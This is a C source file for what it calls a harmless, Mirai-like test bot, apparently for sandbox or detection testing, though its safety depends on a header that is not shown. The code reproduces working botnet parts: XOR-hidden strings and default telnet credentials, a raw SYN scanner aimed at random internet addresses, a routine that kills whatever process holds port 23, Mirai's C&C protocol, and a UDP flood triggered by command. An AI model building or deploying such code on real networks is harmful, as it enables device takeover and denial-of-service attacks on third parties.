/* A Mirai-like test bot (see bot.h for why it is harmless outside the sandbox): a string table
 * hidden with XOR 0x22, the watchdog trick, a killer that frees port 23, a raw SYN scanner with
 * seq = destination address on 23/2323 to random internet addresses, and Mirai's binary C&C
 * protocol (check-in, pings, one UDP attack command). */
#include "bot.h"

#include <dirent.h>
#include <fcntl.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <sys/wait.h>

/* The table, stored XORed with 0x22 as Mirai's table.c does (key 0xdeadbeef). */
enum { T_CNC, T_PROC_TCP, T_QUERY, T_NCORRECT, T_VSE, T_MAX };
static char table[T_MAX][64];
/* Encoded at build time by the macro below: the binary holds only the XORed bytes. */
#define X(c) ((char)((c) ^ 0x22))
static const char enc_proc_tcp[] = {X('/'), X('p'), X('r'), X('o'), X('c'), X('/'), X('n'),
				    X('e'), X('t'), X('/'), X('t'), X('c'), X('p'), 0x22};
static const char enc_query[] = {X('/'), X('b'), X('i'), X('n'), X('/'), X('b'), X('u'),
				 X('s'), X('y'), X('b'), X('o'), X('x'), X(' '), X('M'),
				 X('I'), X('R'), X('A'), X('I'), 0x22};
static const char enc_ncorrect[] = {X('n'), X('c'), X('o'), X('r'), X('r'),
				    X('e'), X('c'), X('t'), 0x22};
static const char enc_vse[] = {X('T'), X('S'), X('o'), X('u'), X('r'), X('c'), X('e'),
			       X(' '), X('E'), X('n'), X('g'), X('i'), X('n'), X('e'),
			       X(' '), X('Q'), X('u'), X('e'), X('r'), X('y'), 0x22};
static const char enc_cnc[] = {X('c'), X('n'), X('c'), X('.'), X('m'), X('i'), X('t'), X('s'),
			       X('u'), X('-'), X('t'), X('e'), X('s'), X('t'), X('.'), X('i'),
			       X('n'), X('v'), X('a'), X('l'), X('i'), X('d'), 0x22};
/* Scanner credentials (user, password), XORed. */
static const char enc_creds[][2][16] = {
	{{X('r'), X('o'), X('o'), X('t'), 0x22},
	 {X('x'), X('c'), X('3'), X('5'), X('1'), X('1'), 0x22}},
	{{X('r'), X('o'), X('o'), X('t'), 0x22}, {X('v'), X('i'), X('z'), X('x'), X('v'), 0x22}},
	{{X('r'), X('o'), X('o'), X('t'), 0x22},
	 {X('x'), X('m'), X('h'), X('d'), X('i'), X('p'), X('c'), 0x22}},
	{{X('r'), X('o'), X('o'), X('t'), 0x22},
	 {X('j'), X('u'), X('a'), X('n'), X('t'), X('e'), X('c'), X('h'), 0x22}},
	{{X('a'), X('d'), X('m'), X('i'), X('n'), 0x22},
	 {X('s'), X('m'), X('c'), X('a'), X('d'), X('m'), X('i'), X('n'), 0x22}},
};

static void decode(char *out, const char *in)
{
	size_t i = 0;
	for (; in[i] != 0x22 && i < 63; i++)
		out[i] = (char)(in[i] ^ 0x22);
	out[i] = '\0';
}

static uint16_t csum(const void *p, size_t n, uint32_t sum)
{
	const uint8_t *b = p;
	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		sum += (uint32_t)b[n - 1] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* Mirai's get_random_ip: never loopback, private, CGNAT, multicast or a few big networks. */
static uint32_t random_ip(void)
{
	for (;;) {
		uint32_t ip = (uint32_t)rand() << 16 ^ (uint32_t)rand();
		uint8_t a = ip >> 24, b = (ip >> 16) & 0xff;
		if (a == 127 || a == 0 || a == 3 || a == 15 || a == 16 || a == 56 || a == 10 ||
		    a >= 224 || (a == 192 && b == 168) || (a == 172 && b >= 16 && b < 32) ||
		    (a == 100 && b >= 64 && b < 127) || (a == 169 && b == 254) ||
		    (a == 198 && b >= 18 && b < 20) || a == 6 || a == 7 || a == 11 || a == 21 ||
		    a == 22 || a == 26 || a == 28 || a == 29 || a == 30 || a == 33 || a == 55 ||
		    a == 214 || a == 215)
			continue;
		return htonl(ip);
	}
}

static void scanner(uint32_t self)
{
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
	int one = 1;
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0)
		_exit(1);
	srand((unsigned)time(NULL) ^ (unsigned)getpid());
	uint8_t pkt[40];
	for (long i = 0;; i++) {
#ifndef STAY
		if (i == 300)
			break;
#endif
		uint32_t dst = random_ip();
		uint16_t dport = i % 10 == 0 ? 2323 : 23;
		memset(pkt, 0, sizeof(pkt));
		struct iphdr *ip = (struct iphdr *)pkt;
		struct tcphdr *tcp = (struct tcphdr *)(pkt + 20);
		ip->ihl = 5;
		ip->version = 4;
		ip->tot_len = htons(40);
		ip->id = (uint16_t)rand();
		ip->ttl = 64;
		ip->protocol = IPPROTO_TCP;
		ip->saddr = self;
		ip->daddr = dst;
		tcp->source = htons((uint16_t)(1024 + rand() % 60000));
		tcp->dest = htons(dport);
		tcp->seq = dst; /* the fingerprint: sequence number = destination address */
		tcp->doff = 5;
		tcp->syn = 1;
		tcp->window = htons((uint16_t)rand());
		uint8_t pseudo[12 + 20];
		memcpy(pseudo, &ip->saddr, 4);
		memcpy(pseudo + 4, &ip->daddr, 4);
		pseudo[8] = 0;
		pseudo[9] = IPPROTO_TCP;
		pseudo[10] = 0;
		pseudo[11] = 20;
		memcpy(pseudo + 12, tcp, 20);
		tcp->check = htons(csum(pseudo, sizeof(pseudo), 0));
		struct sockaddr_in a;
		memset(&a, 0, sizeof(a));
		a.sin_family = AF_INET;
		a.sin_addr.s_addr = dst;
		sendto(fd, pkt, sizeof(pkt), MSG_NOSIGNAL, (struct sockaddr *)&a, sizeof(a));
		if (i % 20 == 19)
			bot_sleep_ms(10);
	}
	_exit(0);
}

/* Finds the owner of a listening socket on port 23 through /proc/net/tcp and /proc/PID/fd,
 * kills it, and takes the port (killer_kill_by_port in Mirai). */
static void killer(void)
{
	FILE *f = fopen(table[T_PROC_TCP], "r");
	char line[512], inode[32] = "";
	while (f && fgets(line, sizeof(line), f)) {
		char local[64], state[8], ino[32];
		if (sscanf(line, "%*s %63s %*s %7s %*s %*s %*s %*s %*s %31s", local, state, ino) ==
			    3 &&
		    strstr(local, ":0017") && strcmp(state, "0A") == 0)
			snprintf(inode, sizeof(inode), "socket:[%s]", ino);
	}
	if (f)
		fclose(f);
	DIR *d = inode[0] ? opendir("/proc") : NULL;
	struct dirent *de;
	while (d && (de = readdir(d))) {
		int pid = atoi(de->d_name);
		if (pid <= 1 || pid == getpid())
			continue;
		char fdd[64];
		snprintf(fdd, sizeof(fdd), "/proc/%d/fd", pid);
		DIR *fds = opendir(fdd);
		struct dirent *fe;
		while (fds && (fe = readdir(fds))) {
			char p[128], target[64];
			snprintf(p, sizeof(p), "%s/%s", fdd, fe->d_name);
			ssize_t n = readlink(p, target, sizeof(target) - 1);
			if (n > 0) {
				target[n] = '\0';
				if (strcmp(target, inode) == 0)
					kill(pid, SIGKILL);
			}
		}
		if (fds)
			closedir(fds);
	}
	if (d)
		closedir(d);
	bot_sleep_ms(100);
	int s = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	struct sockaddr_in a;
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(23);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) == 0)
		listen(s, 1);
#ifdef STAY
	bot_stay();
#else
	bot_sleep_ms(500);
#endif
	_exit(0);
}

static int read_full(int fd, uint8_t *p, size_t n)
{
	size_t got = 0;
	while (got < n) {
		ssize_t r = read(fd, p + got, n - got);
		if (r <= 0)
			return -1;
		got += (size_t)r;
	}
	return 0;
}

/* Mirai's attack command: u16 length (counting itself), u32 duration, u8 vector, u8 targets,
 * {u32 address, u8 netmask}, u8 options, {u8 key, u8 length, value}. */
static void attack(const uint8_t *b, size_t n)
{
	if (n < 6)
		return;
	uint32_t secs = (uint32_t)b[0] << 24 | (uint32_t)b[1] << 16 | (uint32_t)b[2] << 8 | b[3];
	uint8_t vector = b[4], ntargets = b[5];
	size_t off = 6;
	struct in_addr target = {0};
	for (int i = 0; i < ntargets && off + 5 <= n; i++, off += 5)
		memcpy(&target.s_addr, b + off, 4);
	int dport = 0;
	if (off < n) {
		int nopts = b[off++];
		for (int i = 0; i < nopts && off + 2 <= n; i++) {
			int key = b[off], len = b[off + 1];
			off += 2;
			if (off + (size_t)len > n)
				break;
			if (key == 7 && len < 8) {
				char v[8];
				memcpy(v, b + off, (size_t)len);
				v[len] = '\0';
				dport = atoi(v);
			}
			off += (size_t)len;
		}
	}
	if (vector == 0 && target.s_addr)
		bot_udp_flood(target, dport ? dport : 80, (int)secs);
}

int main(void)
{
	int wfd = open("/dev/watchdog", O_RDWR);
	if (wfd < 0)
		wfd = open("/dev/misc/watchdog", O_RDWR);
	decode(table[T_CNC], enc_cnc);
	decode(table[T_PROC_TCP], enc_proc_tcp);
	decode(table[T_QUERY], enc_query);
	decode(table[T_NCORRECT], enc_ncorrect);
	decode(table[T_VSE], enc_vse);
	char creds[5][2][16];
	for (int i = 0; i < 5; i++) {
		decode(creds[i][0], enc_creds[i][0]);
		decode(creds[i][1], enc_creds[i][1]);
	}
	struct in_addr cnc;
	if (bot_resolve(table[T_CNC], &cnc) != 0)
		return 0; /* not in the sandbox */
	uint32_t self = bot_local_addr();
	pid_t k = fork();
	if (k == 0)
		killer();
	pid_t s = fork();
	if (s == 0)
		scanner(self);
	int fd = bot_connect(cnc, 23);
	if (fd >= 0) {
		static const char id[] = "mitsu-test";
		uint8_t hello[5 + sizeof(id)] = {0, 0, 0, 1, (uint8_t)(sizeof(id) - 1)};
		memcpy(hello + 5, id, sizeof(id) - 1);
		if (write(fd, hello, 5 + sizeof(id) - 1) > 0) {
			for (;;) {
				uint8_t len[2], body[1024];
				if (read_full(fd, len, 2) < 0)
					break;
				size_t total = (size_t)(len[0] << 8 | len[1]);
				if (total == 0) {
					continue; /* ping */
				}
				if (total < 2 || total - 2 > sizeof(body) ||
				    read_full(fd, body, total - 2) < 0)
					break;
				attack(body, total - 2);
#ifndef STAY
				break;
#endif
			}
		}
		close(fd);
	}
	waitpid(k, NULL, 0);
	waitpid(s, NULL, 0);
	bot_stay();
	if (wfd >= 0)
		close(wfd);
	return 0;
}
